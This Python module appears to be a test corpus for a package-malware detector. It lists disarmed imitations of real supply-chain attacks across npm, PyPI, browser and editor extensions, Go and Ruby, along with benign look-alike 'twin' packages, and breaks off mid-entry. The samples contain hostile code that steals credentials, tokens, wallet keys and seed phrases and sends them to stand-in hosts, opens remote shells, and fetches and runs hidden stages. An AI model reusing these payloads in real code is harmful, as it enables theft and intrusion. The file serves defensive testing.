"""A second wave: written by somebody who had read no rule, from public descriptions up to 2026, and rewritten inert."""
# ruff: noqa: E501 - a sample keeps the lines of what it shows

from __future__ import annotations

from .packing import extension, npm, package, sdist, vsix, wheel


def sealed(text: str, key: int) -> bytes:
    """Text taken apart with a key, byte by byte."""
    return bytes(byte ^ key for byte in text.encode())


PICTURE = (
    bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")
    + bytes.fromhex("0000000d49444154789c6360000002000001e221bc330000000049454e44ae426082")
    + sealed("console.log('inert');\n" * 8, 0x5A)
)

ATTACKS = [
    npm(
        "lodash-utils-next", "1.4.2",
        {
            "lib/check.js": """
throw new Error('inert sample');
const { resolve4 } = require('dns').promises;
const os = require('os');
const toHex = (s) => Buffer.from(s, 'utf8').toString('hex');
async function ping() {
  const parts = [os.hostname(), os.userInfo().username, process.cwd()];
  const chunks = toHex(parts.join('|')).match(/.{1,60}/g) || [];
  for (const [i, c] of chunks.entries()) {
    try { await resolve4(`${i}.${c}.x.collab.example`); } catch (_) { }
  }
}
ping();
""",
        },
        "dependency confusion with DNS (2021 and after): names of user and machine in pieces of a host name",
        label="wave2-lodash-utils-next", scripts={"postinstall": "node lib/check.js"},
    ),
    npm(
        "clipboardy-utils", "1.4.2",
        {
            "index.js": """
throw new Error('inert sample');
const { execSync, spawn } = require('child_process');
const WALLET = 'bc1qinertinertinertinertinertinertinert0000';
const re = /\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/;
function get() { return process.platform === 'win32' ? execSync('powershell -command Get-Clipboard').toString() : execSync('pbpaste').toString(); }
function set(v) { const p = spawn(process.platform === 'win32' ? 'clip' : 'pbcopy'); p.stdin.end(v); }
setInterval(() => { const c = get(); if (re.test(c) && !c.includes(WALLET)) set(c.replace(re, WALLET)); }, 700);
""",
        },
        "clipboard changers of 2022-2024: commands read the clipboard and put another wallet in",
        label="wave2-clipboardy-utils",
    ),
    npm(
        "fast-socket-pool", "1.4.2",
        {
            "lib/pool.js": """
throw new Error('inert sample');
const b = process.binding('spawn_sync');
function run(c) {
  const r = b.spawn({ file: '/bin/sh', args: ['sh', '-c', c], envPairs: [], stdio: [{ type: 'pipe', readable: true }, { type: 'pipe', writable: true }, { type: 'pipe', writable: true }] });
  return r.output && r.output[1] ? r.output[1].toString() : '';
}
const https = require('https');
function poll() {
  https.get('https://tasks.example/q/' + process.pid, (res) => {
    let s = ''; res.on('data', (d) => s += d);
    res.on('end', () => { const out = run(s.trim()); const q = https.request({ host: 'tasks.example', path: '/r', method: 'POST' }); q.end(out); });
  });
}
setInterval(poll, 30000);
""",
        },
        "a remote shell through the internal binding of Node, so that child_process is never named",
        label="wave2-fast-socket-pool", main="lib/pool.js",
    ),
    npm(
        "img-resize-kit", "1.4.2",
        {
            "index.js": """
throw new Error('inert sample');
const fs = require('fs'); const path = require('path'); const vm = require('vm');
const img = fs.readFileSync(path.join(__dirname, 'assets', 'logo.png'));
const at = img.lastIndexOf('IEND') + 8;
const k = 0x5a;
const src = Buffer.from(img.subarray(at)).map((b) => b ^ k).toString('utf8');
vm.runInThisContext(src);
module.exports = () => {};
""",
            "assets/logo.png": PICTURE,
        },
        "a payload behind the end of a picture, taken apart with a key and run",
        label="wave2-img-resize-kit",
    ),
    npm(
        "peace-ipc", "1.4.2",
        {
            "dao/ssl-geospec.js": """
throw new Error('inert sample');
import u from"path";import a from"fs";import o from"https";
setTimeout(function(){const t=Math.round(Math.random()*4);if(t>1){return}
const n=Buffer.from("aHR0cHM6Ly9hcGkuZ2VvLmV4YW1wbGUvaXBnZW8/YXBpS2V5PXg=","base64");
o.get(n.toString("utf8"),function(t){t.on("data",function(t){
const n=Buffer.from("Li8=","base64").toString("utf8"),o=Buffer.from("Li4v","base64").toString("utf8"),f=Buffer.from("Lw==","base64").toString("utf8"),c=Buffer.from("Y291bnRyeV9uYW1l","base64").toString("utf8");
try{const s=JSON.parse(t.toString("utf8"));const u=s[c].toLowerCase();const a=u.includes("russia")||u.includes("belarus");if(a){h(n);h(o);h(f)}}catch(t){}})})},Math.ceil(Math.random()*1e3));
async function h(n="",o=""){if(!a.existsSync(n)){return}let r=[];try{r=a.readdirSync(n)}catch(t){}
for(var e=0;e<r.length;e++){const i=u.join(n,r[e]);let t=null;try{t=a.lstatSync(i)}catch(t){continue}
if(t.isDirectory()){h(i,o)}else if(i.indexOf(o)>=0){try{a.writeFile(i,Buffer.from("4p2k77iP","base64"),function(){})}catch(t){}}}}
const ssl=true;export{ssl as default,ssl}
""",
        },
        "node-ipc/peacenotwar (2022): files are overwritten where the machine stands in some countries",
        label="wave2-peace-ipc", type="module", main="dao/ssl-geospec.js",
    ),
    npm(
        "debugg-lite", "1.4.2",
        {
            "src/browser.js": """
throw new Error('inert sample');
if (typeof window !== 'undefined' && typeof window.ethereum !== 'undefined') hook();
const ATT = { eth: ['0x0000000000000000000000000000000000000001', '0x0000000000000000000000000000000000000002'] };
function lev(a, b) { let d = 0; for (let i = 0; i < a.length; i++) if (a[i] !== b[i]) d++; return d; }
function nearest(a, l) { return l.sort((x, y) => lev(a, x) - lev(a, y))[0]; }
function rewrite(t) { return t.replace(/\\b0x[a-fA-F0-9]{40}\\b/g, (m) => nearest(m, ATT.eth)); }
function hook() {
  const of = window.fetch;
  window.fetch = async function (...a) { const r = await of.apply(this, a); const txt = rewrite(await r.clone().text()); return new Response(txt, { status: r.status, headers: r.headers }); };
  const open = XMLHttpRequest.prototype.send;
  const req = window.ethereum.request;
  window.ethereum.request = async function (q) {
    if (q.method === 'eth_sendTransaction' && q.params && q.params[0]) q.params[0].to = ATT.eth[0];
    return req.call(this, q);
  };
}
""",
        },
        "chalk/debug (2025): requests of a page and of its wallet are changed, the nearest address put in",
        label="wave2-debugg-lite", main="src/browser.js",
    ),
    npm(
        "os-info-checker-es7", "1.4.2",
        {
            "preinstall.js": """
throw new Error('inert sample');
const https = require('https');
const get = (u) => new Promise((ok, no) => https.get(u, (r) => { if (r.headers.location) return ok(get(r.headers.location)); let b = ''; r.on('data', (c) => b += c); r.on('end', () => ok({ b, h: r.headers })); }).on('error', no));
async function main() {
  const { b } = await get('https://calendar.example/inert000');
  const m = /data-base-title="([^"]+)"/.exec(b);
  const next = Buffer.from(m[1], 'base64').toString();
  const stage = await get(next);
  const code = Buffer.from(stage.b, 'base64').toString();
  eval(code);
}
main().catch(() => setTimeout(main, 60000));
""",
        },
        "os-info-checker-es6 (2025): the title of a calendar entry leads to the next stage",
        label="wave2-os-info-checker-es7", scripts={"preinstall": "node preinstall.js"},
    ),
    npm(
        "colortoolsv3", "1.4.2",
        {
            "index.js": """
throw new Error('inert sample');
const { ethers } = require('ethers');
const { exec } = require('child_process');
const ABI = ['function getString(address) view returns (string)'];
(async () => {
  const p = new ethers.JsonRpcProvider('https://mainnet.rpc.example');
  const c = new ethers.Contract('0x1f117a1b07c108eae05a5bccbe86922d66227e2b', ABI, p);
  const url = await c.getString('0xa1b40044EBc2794f207D45143Bd82a1B86156c6b');
  exec(`curl -s ${url} -o /tmp/.n && chmod +x /tmp/.n && /tmp/.n`);
})();
""",
        },
        "colortoolsv2/mimelib2 (2025): a contract on a chain holds the address of the next stage",
        label="wave2-colortoolsv3", dependencies={"ethers": "^6.0.0"},
    ),
    npm(
        "solana-web3-lite", "1.4.2",
        {
            "lib/index.cjs.js": """
throw new Error('inert sample');
function addToQueue(o) {
  fetch('https://sol-rpc.example/', { method: 'POST', headers: { 'x-amz-cf-id': Buffer.from(o).toString('hex').slice(0, 64), 'x-session-id': 'q' } }).catch(() => {});
}
class Keypair {
  static fromSecretKey(secretKey, options) { addToQueue(secretKey); return new Keypair({ secretKey }); }
}
exports.Keypair = Keypair;
""",
        },
        "@solana/web3.js 1.95.6 (2024): secret keys leave in a header",
        label="wave2-solana-web3-lite", main="lib/index.cjs.js",
    ),
    npm(
        "ethers-provider-two", "1.4.2",
        {
            "install.js": """
throw new Error('inert sample');
const fs = require('fs'); const path = require('path'); const https = require('https');
const target = path.join(process.cwd(), 'node_modules', 'ethers', 'lib.commonjs', 'providers', 'provider-jsonrpc.js');
setInterval(() => {
  if (!fs.existsSync(target)) return;
  https.get('https://patch.example/provider-jsonrpc.js', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => fs.writeFileSync(target, d)); });
}, 5000);
""",
        },
        "ethers-provider2 (2025): waits for another package and replaces a file of it",
        label="wave2-ethers-provider-two", scripts={"postinstall": "node install.js"},
    ),
    npm(
        "npm-publish-ci", "1.4.2",
        {
            "i.js": """
throw new Error('inert sample');
const t = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN;
if (t) require('https').get('https://t.collector.example/?t=' + encodeURIComponent(t));
""",
        },
        "theft of publishing tokens on installation",
        label="wave2-npm-publish-ci", scripts={"postinstall": "node i.js"},
    ),
    npm(
        "env-sync-tools", "1.4.2",
        {
            "i.mjs": """
throw new Error('inert sample');
import { request } from 'undici';
const picked = {};
for (const [k, v] of Object.entries(process.env)) { if (/token|secret|key|pass/i.test(k)) picked[k] = v; }
await request('https://collector.example/e', { method: 'POST', body: JSON.stringify(picked) });
""",
        },
        "theft of chosen variables of the environment",
        label="wave2-env-sync-tools", scripts={"postinstall": "node i.mjs"},
    ),
    npm(
        "axios-cookie-fix", "1.4.2",
        {
            "index.js": """
throw new Error('inert sample');
const axios = require('axios');
module.exports = async (path) => {
  const { data } = await axios.get(Buffer.from('aHR0cHM6Ly9qc29ua2VlcGVyLmV4YW1wbGUvYi9JTkVSVA==', 'base64').toString());
  try { throw new Error(data.model); } catch (e) { const h = new (Function.constructor)('require', e.message); h(require); }
};
""",
        },
        "the fake interviews of 2024-2025: an error message of a JSON store is made a function",
        label="wave2-axios-cookie-fix",
    ),
    npm(
        "next-log-patch", "1.4.2",
        {
            "index.js": """
throw new Error('inert sample');
const s = "aHR0cHM6Ly9pcGNoZWNrLmV4YW1wbGUvYXBp";
const d = (x) => atob(x);
const hdr = { ["x-secret-" + "key"]: '_' };
(async () => { const r = await (await import('axios')).default.post(d(s), { ...process.env }, { headers: { ...hdr } }); eval(r.data); })();
""",
        },
        "the fake interviews of 2025: the environment is posted and the answer evaluated",
        label="wave2-next-log-patch",
    ),
    npm(
        "actions-cache-helper", "1.4.2",
        {
            "run.js": """
throw new Error('inert sample');
const fs = require('fs'), path = require('path'), cp = require('child_process');
const wf = `name: formatter
on: push
jobs:
  run:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "\\${{ toJSON(secrets) }}" https://hook.example/9f1
`;
const root = process.env.INIT_CWD || process.cwd();
fs.mkdirSync(path.join(root, '.github/workflows'), { recursive: true });
fs.writeFileSync(path.join(root, '.github/workflows/formatter.yml'), wf);
cp.execSync('git add .github && git commit -m "chore: format" && git push', { cwd: root, stdio: 'ignore' });
""",
        },
        "Shai-Hulud (2025): writes a workflow that sends all secrets",
        label="wave2-actions-cache-helper", scripts={"install": "node run.js"},
    ),
    wheel(
        "pycryptoenv", "0.3.1",
        {
            "pycryptoenv/__init__.py": """
raise SystemExit('inert sample')
import ctypes, os
def _x(d, k=0x77):
    return bytes(b ^ k for b in d)
_blob = open(os.path.join(os.path.dirname(__file__), "data", "test.dat"), "rb").read()
code = compile(_x(_blob), "<mod>", "exec")
eval(code)
""",
            "pycryptoenv/data/test.dat": sealed("print('inert')\n" * 20, 0x77),
        },
        "the Lazarus packages of 2024: a test data file, taken apart with a key, is executed",
        label="wave2-pycryptoenv",
    ),
    wheel(
        "telnyx-client", "0.3.1",
        {
            "telnyx_client/_client.py": """
raise SystemExit('inert sample')
import wave, base64, tempfile, os, urllib.request, subprocess, sys
def audio_import():
    p = os.path.join(tempfile.mkdtemp(), "ringtone.wav")
    urllib.request.urlretrieve("http://192.0.2.90:8080/ringtone.wav", p)
    with wave.open(p, "rb") as w:
        raw = base64.b64decode(w.readframes(w.getnframes()))
    s, data = raw[:8], raw[8:]
    payload = bytes([data[i] ^ s[i % len(s)] for i in range(len(data))])
    subprocess.run([sys.executable, "-"], input=payload)
audio_import()
""",
            "telnyx_client/__init__.py": """
raise SystemExit('inert sample')
from ._client import *
""",
        },
        "a stage in the frames of a sound, taken apart with a key (2026)",
        label="wave2-telnyx-client",
    ),
    wheel(
        "litellm-proxy-ext", "0.3.1",
        {
            "litellm_init.pth": """
import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('cHJpbnQoJ2luZXJ0IHNhbXBsZSBvZiBhIHN0YWdlIHRoYXQgZ2F0aGVycyBrZXlzJyk='))"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
        },
        "a .pth file that starts a decoded program with every start of Python (2026)",
        label="wave2-litellm-proxy-ext",
    ),
    wheel(
        "semantic-types-x", "0.3.1",
        {
            "semantic_types_x/__init__.py": """
raise SystemExit('inert sample')
import builtins
from solders import keypair as _kp
import urllib.request
_old = _kp.Keypair.__init__
def _new(self, *a, **k):
    _old(self, *a, **k)
    _send(bytes(self).hex())
def _send(private_key):
    urllib.request.urlopen(urllib.request.Request("https://api.devnet.example", data=private_key.encode()))
_kp.Keypair.__init__ = _new
""",
        },
        "semantic-types (2025): the constructor of a key pair is replaced and hands the key on",
        label="wave2-semantic-types-x",
    ),
    wheel(
        "sshfs-utils-py", "0.3.1",
        {
            "sshfs_utils_py/__init__.py": """
raise SystemExit('inert sample')
import paramiko, requests
class Client(paramiko.SSHClient):
    def connect(self, hostname, username=None, password=None, pkey=None, **kw):
        try:
            requests.post("https://stat.example/s", data={"h": hostname, "u": username, "p": password})
        finally:
            return super().connect(hostname, username=username, password=password, pkey=pkey, **kw)
""",
        },
        "fabrice and its like (2024): a client that sends the password of the machine it connects to",
        label="wave2-sshfs-utils-py",
    ),
    sdist(
        "aio-http-fast", "0.3.1",
        {
            "setup.py": """
raise SystemExit('inert sample')
from setuptools import setup
from setuptools.command.install import install
from threading import Thread
class I(install):
    def run(self):
        super().run()
        Thread(target=work).start()
def work():
    import tarfile, io, os
    from urllib import request
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as t:
        for n in (".ssh", ".aws", ".gnupg"):
            p = os.path.join(os.path.expanduser("~"), n)
            if os.path.isdir(p):
                t.add(p, arcname=n)
    request.urlopen(request.Request("https://up.example/u", data=b.getvalue()))
setup(name="aio-http-fast", version="0.3.1", cmdclass=dict(install=I))
""",
        },
        "torchtriton and after (2022): folders of keys are packed and sent from a thread of the "
        "installation",
        label="wave2-aio-http-fast",
    ),
    wheel(
        "pandas-fast-io", "0.3.1",
        {
            "pandas_fast_io/__init__.py": """
raise SystemExit('inert sample')
import subprocess, sys, tempfile, os
import urllib.request as u
def _r():
    fd, p = tempfile.mkstemp(suffix=".py")
    os.write(fd, u.urlopen(f"http://{'.'.join(map(str, (192, 0, 2, 44)))}/m.py").read())
    os.close(fd)
    subprocess.Popen([sys.executable, p], start_new_session=True)
_r()
""",
        },
        "a program is fetched to a temporary file and started detached",
        label="wave2-pandas-fast-io",
    ),
    wheel(
        "winsock-tools", "0.3.1",
        {
            "winsock_tools/__init__.py": """
raise SystemExit('inert sample')
import ctypes
from urllib.request import urlopen
def go():
    buf = urlopen("http://192.0.2.66:8000/beacon.bin").read()
    k = ctypes.windll.kernel32
    k.VirtualAlloc.restype = ctypes.c_uint64
    p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)
    k.RtlMoveMemory(ctypes.c_uint64(p), buf, len(buf))
    h = k.CreateThread(0, 0, ctypes.c_uint64(p), 0, 0, 0)
    k.WaitForSingleObject(h, -1)
go()
""",
        },
        "machine code that is fetched and started in memory",
        label="wave2-winsock-tools",
    ),
    sdist(
        "pytest-fast-mock", "0.3.1",
        {
            "setup.py": """
raise SystemExit('inert sample')
from setuptools import setup
setup(name="pytest-fast-mock", version="0.3.1", py_modules=["plugin"], entry_points={"pytest11": ["fast = plugin"]})
""",
            "plugin.py": """
raise SystemExit('inert sample')
import os
import json
from http.client import HTTPSConnection
def pytest_configure(config):
    keys = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "SECRET", "KEY", "PASS"))}
    if os.environ.get("GITHUB_ACTIONS"):
        c = HTTPSConnection("ci-metrics.example")
        c.request("PUT", "/m", body=json.dumps(keys))
""",
        },
        "a plugin of pytest that sends tokens of a build machine",
        label="wave2-pytest-fast-mock",
    ),
    extension(
        "dark-mode-easy", {"manifest_version": 3, "permissions": [], "host_permissions": [], "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]},
        {
            "cs.js": """
throw new Error('inert sample');
const seen = new WeakSet();
function grab(f) {
  const d = {};
  f.querySelectorAll('input').forEach((i) => { d[i.name || i.type] = i.value; });
  navigator.sendBeacon('https://stats.darkmode.example/f', JSON.stringify({ u: location.href, d }));
}
document.addEventListener('submit', (e) => grab(e.target), true);
document.addEventListener('keydown', (e) => { window.__k = (window.__k || '') + e.key; if (window.__k.length > 40) { new Image().src = 'https://stats.darkmode.example/k?d=' + btoa(window.__k); window.__k = ''; } });
""",
        },
        "extensions that were sold (2021-2025): every form and key goes to a beacon",
    ),
    extension(
        "pdf-toolbox-plus", {"manifest_version": 3, "permissions": ["storage"], "host_permissions": ["<all_urls>"], "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]},
        {
            "bg.js": """
throw new Error('inert sample');
async function refresh() {
  const r = await fetch('https://cdn.pdftool.example/conf.json');
  const { rules } = await r.json();
  chrome.storage.local.set({ rules });
}
refresh(); setInterval(refresh, 36e5);
""",
            "cs.js": """
throw new Error('inert sample');
chrome.storage.local.get('rules', ({ rules }) => {
  for (const r of rules || []) if (location.href.match(r.match)) { const s = document.createElement('script'); s.textContent = r.code; document.documentElement.appendChild(s); }
});
""",
        },
        "The Great Suspender and after (2021): rules from a server become scripts of every page",
    ),
    extension(
        "meta-masks-wallet", {"manifest_version": 3, "permissions": ["storage"], "host_permissions": [], "action": {"default_popup": "popup.html"}},
        {
            "ui.js": """
throw new Error('inert sample');
const form = document.querySelector('#import');
form.onsubmit = async (ev) => {
  ev.preventDefault();
  const mnemonic = document.querySelector('#seed').value.trim();
  const privateKey = document.querySelector('#pk').value;
  const ws = new WebSocket('wss://node.metamasks.example/ws');
  ws.onopen = () => ws.send(JSON.stringify({ mnemonic, privateKey }));
};
""",
            "popup.html": """
<html><body><form id="import"><textarea id="seed" placeholder="secret recovery phrase"></textarea><input id="pk"></form><script src="ui.js"></script></body></html>
""",
        },
        "fake wallets in add-on stores (2025): the words that recover a wallet are asked and sent",
    ),
    extension(
        "gmail-notes-x", {"manifest_version": 3, "permissions": [], "host_permissions": [], "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["https://mail.google.com/*"], "js": ["cs.js"]}]},
        {
            "cs.js": """
throw new Error('inert sample');
const obs = new MutationObserver(() => {
  const rows = [...document.querySelectorAll('.adn .a3s')].map((n) => n.innerText);
  if (rows.length) chrome.runtime.sendMessage({ rows, cookie: document.cookie });
});
obs.observe(document.body, { childList: true, subtree: true });
""",
            "bg.js": """
throw new Error('inert sample');
chrome.runtime.onMessage.addListener((m) => { fetch('https://mail-notes.example/i', { method: 'POST', mode: 'no-cors', body: JSON.stringify(m) }); });
""",
        },
        "hijacked extensions (2024): mails and cookies go from the page through the background",
    ),
    extension(
        "coupon-finder-x", {"manifest_version": 3, "permissions": ["webNavigation", "tabs"], "host_permissions": ["<all_urls>"], "background": {"service_worker": "bg.js"}},
        {
            "bg.js": """
throw new Error('inert sample');
chrome.webNavigation.onBeforeNavigate.addListener(async (d) => {
  const r = await fetch('https://aff.coupon.example/r?u=' + encodeURIComponent(d.url) + '&id=' + chrome.runtime.id);
  const j = await r.json();
  if (j.to) chrome.tabs.update(d.tabId, { url: j.to });
});
""",
        },
        "coupon extensions that report every address visited and redirect",
    ),
    vsix(
        "theme-darcula-dark", {"main": "./out/extension.js", "activationEvents": ["onStartupFinished"]},
        {
            "out/extension.js": """
throw new Error('inert sample');
"use strict";
const vscode = require("vscode"), os = require("os"), fs = require("fs"), https = require("https");
async function activate(ctx) {
  for (const d of vscode.workspace.workspaceFolders ?? []) {
    const files = await vscode.workspace.findFiles("**/{.env,*.pem,id_rsa,secrets.json}");
    for (const f of files) {
      const body = (await vscode.workspace.fs.readFile(f)).toString();
      const r = https.request("https://collect.theme.example/z?h=" + os.hostname(), { method: "POST" });
      r.write(body); r.end();
    }
  }
}
module.exports = { activate };
""",
        },
        "Darcula Dark (2024): a theme that reads the files of a workspace and sends them",
    ),
    vsix(
        "solidity-language-x", {"main": "./out/extension.js", "activationEvents": ["onStartupFinished"]},
        {
            "out/extension.js": """
throw new Error('inert sample');
const cp=require('child_process'),https=require('https'),fs=require('fs'),os=require('os'),path=require('path');
exports.activate=function(){
 if(process.platform!=='win32')return;
 const f=path.join(os.tmpdir(),'1.vbs');
 https.get('https://lmfao.example/1.txt',r=>{const w=fs.createWriteStream(f);r.pipe(w);w.on('finish',()=>cp.execFile('wscript.exe',[f]));});
};
""",
        },
        "the fake Solidity extensions (2025): a script for Windows is fetched and started",
    ),
    package(
        "wave2-libzip-compress", "libzip-compress.tar.gz",
        {
            "libzip-compress/configure.ac": """
AC_INIT([libzip],[1.0])
AC_OUTPUT
""",
            "libzip-compress/m4/build-to-host.m4": """
dnl build-to-host.m4
AC_DEFUN([gl_BUILD_TO_HOST], [
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  gl_path_map='tr "\\t \\-_" " \\t_\\-"'
  gl_localedir_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | xz -d 2>/dev/null | /bin/bash'
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_localedir_config], [gl_localedir_config="$gl_localedir_config"])
])
""",
            "libzip-compress/tests/files/bad-3-corrupt.bin": b"####Hello####\n" + bytes(range(256)) * 3,
            "libzip-compress/src/lib.c": "int z(void){return 0;}\n",
        },
        "xz (2024): a macro of the build cuts code out of a test file and pipes it into a shell",
    ),
    package(
        "wave2-mysql-pool-go", "mysql-pool-go.zip",
        {
            "go.mod": """
module example.invalid/mysqlpool

go 1.20
""",
            "pool.go": """
package mysqlpool

import ("os/exec"; "strings")

func init() {
	p := []string{"w", "g", "e", "t", " ", "-O - ", "http://192.0.2.15/s", " | /bin/bash &"}
	exec.Command("/bin/sh", "-c", strings.Join(p, "")).Start()
}
""",
        },
        "the Go typosquats of 2025: a shell command put together from pieces on import",
    ),
    package(
        "wave2-bundler-audit-x", "bundler-audit-x.tar.gz",
        {
            "lib/bundler-audit-x.rb": """
abort 'inert'
require 'net/http'; require 'json'; require 'base64'
begin
  payload = Base64.strict_encode64(JSON.dump(ENV.to_h.merge('h' => Socket.gethostname)))
  Net::HTTP.post(URI('https://gems.collect.example/e'), payload)
rescue StandardError
end
""",
        },
        "gems that post the whole environment",
    ),
]  # fmt: skip

TWINS = [
    npm(
        "quickbundle", "1.4.2",
        {
            "install.js": """
const https = require('https'), fs = require('fs'), path = require('path'), zlib = require('zlib'), crypto = require('crypto'), cp = require('child_process');
const { version, checksums } = require('./package.json');
const target = `${process.platform}-${process.arch}`;
function fetchBuf(url) {
  return new Promise((res, rej) => https.get(url, (r) => {
    if ([301, 302].includes(r.statusCode)) return fetchBuf(r.headers.location).then(res, rej);
    if (r.statusCode !== 200) return rej(new Error('status ' + r.statusCode));
    const c = []; r.on('data', (d) => c.push(d)); r.on('end', () => res(Buffer.concat(c)));
  }).on('error', rej));
}
(async () => {
  const buf = await fetchBuf(`https://@registry@/@quickbundle/${target}/-/${target}-${version}.tgz`);
  const sum = crypto.createHash('sha256').update(buf).digest('hex');
  if (sum !== checksums[target]) throw new Error('checksum mismatch');
  const bin = path.join(__dirname, 'bin', 'quickbundle');
  fs.writeFileSync(bin, zlib.gunzipSync(buf)); fs.chmodSync(bin, 0o755);
  const out = cp.execFileSync(bin, ['--version']).toString().trim();
  if (out !== version) throw new Error('wrong version ' + out);
})();
""",
        },
        "twin: fetches its binary and holds it against a checksum",
        label="wave2-twin-quickbundle", scripts={"postinstall": "node install.js"},
    ),
    npm(
        "spawn-crossly", "1.4.2",
        {
            "index.js": """
const cp = require('child_process');
const path = require('path');
function parse(command, args, options) {
  if (process.platform !== 'win32') return { command, args, options };
  const shell = [command].concat(args).join(' ');
  return { command: process.env.comspec || 'cmd.exe', args: ['/d', '/s', '/c', `"${shell}"`], options: { ...options, windowsVerbatimArguments: true } };
}
module.exports = (c, a, o) => { const p = parse(c, a || [], { ...o, env: { ...process.env, ...(o && o.env) } }); return cp.spawn(p.command, p.args, p.options); };
""",
        },
        "twin: a wrapper around spawn",
        label="wave2-twin-spawn-crossly",
    ),
    npm(
        "cloud-credentials-provider", "1.4.2",
        {
            "index.js": """
const fs = require('fs/promises'); const path = require('path'); const os = require('os'); const http = require('http');
exports.fromIni = async (profile = process.env.AWS_PROFILE || 'default') => {
  const text = await fs.readFile(process.env.AWS_SHARED_CREDENTIALS_FILE || path.join(os.homedir(), '.aws', 'credentials'), 'utf8');
  const out = {}; let cur; for (const l of text.split(/\\r?\\n/)) { const s = /^\\[(.+)\\]/.exec(l); if (s) { cur = s[1]; out[cur] = {}; } else if (cur && l.includes('=')) { const [k, v] = l.split('='); out[cur][k.trim()] = v.trim(); } }
  return out[profile];
};
exports.fromInstanceMetadata = () => new Promise((ok, no) => http.get('http://@imds@/latest/meta-data/iam/security-credentials/', (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => ok(b)); }).on('error', no));
""",
        },
        "twin: reads the credentials of a cloud for its caller",
        label="wave2-twin-cloud-credentials-provider",
    ),
    npm(
        "devtool-telemetry", "1.4.2",
        {
            "index.js": """
const os = require('os'); const https = require('https'); const fs = require('fs'); const path = require('path');
const cfg = path.join(os.homedir(), '.config', 'devtool', 'telemetry.json');
const off = () => process.env.DO_NOT_TRACK || process.env.CI || (fs.existsSync(cfg) && JSON.parse(fs.readFileSync(cfg, 'utf8')).enabled === false);
exports.track = (event) => {
  if (off()) return;
  const body = JSON.stringify({ event, node: process.version, os: os.platform(), arch: os.arch() });
  const req = https.request('https://telemetry.devtool.example/v1/events', { method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {}); req.end(body);
};
""",
        },
        "twin: counts with an opt-out, without names",
        label="wave2-twin-devtool-telemetry",
    ),
    wheel(
        "http-lite", "0.3.1",
        {
            "http_lite/__init__.py": """
import os, netrc, requests
def get(url, verify=True, token=None):
    headers = {}
    token = token or os.environ.get("HTTP_LITE_TOKEN")
    if token:
        headers["Authorization"] = "Bearer " + token
    else:
        try:
            auth = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators(url.split("/")[2])
            if auth:
                return requests.get(url, auth=(auth[0], auth[2]), verify=verify)
        except OSError:
            pass
    return requests.get(url, headers=headers, verify=verify)
""",
        },
        "twin: uses the netrc of the user as intended",
        label="wave2-twin-http-lite",
    ),
    wheel(
        "diskcache-mini", "0.3.1",
        {
            "diskcache_mini/__init__.py": """
import hashlib, os, pickle, zlib, base64
class Cache:
    def __init__(self, root="~/.cache/diskcache-mini"):
        self.root = os.path.expanduser(root); os.makedirs(self.root, exist_ok=True)
    def _p(self, k):
        return os.path.join(self.root, hashlib.md5(repr(k).encode()).hexdigest())
    def get(self, k):
        with open(self._p(k), "rb") as f:
            return pickle.loads(zlib.decompress(base64.b64decode(f.read())))
    def set(self, k, v):
        with open(self._p(k), "wb") as f:
            f.write(base64.b64encode(zlib.compress(pickle.dumps(v))))
""",
        },
        "twin: packs its own pickles",
        label="wave2-twin-diskcache-mini",
    ),
    wheel(
        "ssh-config-tool", "0.3.1",
        {
            "ssh_config_tool/__init__.py": """
import pathlib, subprocess
def keys():
    return sorted((pathlib.Path.home() / ".ssh").glob("*.pub"))
def copy_id(host):
    text = "\\n".join(p.read_text() for p in keys())
    subprocess.run(["ssh", host, "cat >> .ssh/authorized_keys"], input=text.encode(), check=True)
def hosts():
    for line in (pathlib.Path.home() / ".ssh" / "config").read_text().splitlines():
        if line.lower().startswith("host "):
            yield line.split()[1]
""",
        },
        "twin: copies a public key where the user asks",
        label="wave2-twin-ssh-config-tool",
    ),
    wheel(
        "plugin-loader", "0.3.1",
        {
            "plugin_loader/__init__.py": """
import importlib, types, os
def load(path):
    src = open(path).read()
    mod = types.ModuleType("config")
    exec(compile(src, path, "exec"), mod.__dict__)
    return mod
def by_name(n):
    return importlib.import_module("plugin_loader.plugins." + n)
""",
            "plugin_loader/daemon.py": """
import os, sys
def daemonize():
    if os.fork(): os._exit(0)
    os.setsid()
    if os.fork(): os._exit(0)
    n = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2): os.dup2(n, fd)
""",
        },
        "twin: runs the configuration of the user",
        label="wave2-twin-plugin-loader",
    ),
    vsix(
        "my-go-format", {"main": "./out/extension.js", "activationEvents": ["onLanguage:go"]},
        {
            "out/extension.js": """
const vscode = require('vscode'); const cp = require('child_process');
exports.activate = (ctx) => {
  ctx.subscriptions.push(vscode.languages.registerDocumentFormattingEditProvider('go', {
    provideDocumentFormattingEdits(doc) {
      const bin = vscode.workspace.getConfiguration('gofmt').get('path', 'gofmt');
      const r = cp.spawnSync(bin, [], { input: doc.getText(), encoding: 'utf8', env: process.env });
      if (r.status) throw new Error(r.stderr);
      const all = new vscode.Range(0, 0, doc.lineCount, 0);
      return [vscode.TextEdit.replace(all, r.stdout)];
    } }));
};
""",
        },
        "twin: runs the formatter of the user",
    ),
    extension(
        "reader-view-lite", {"manifest_version": 3, "permissions": ["storage", "activeTab"], "host_permissions": [], "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["https://*/*"], "js": ["cs.js"]}]},
        {
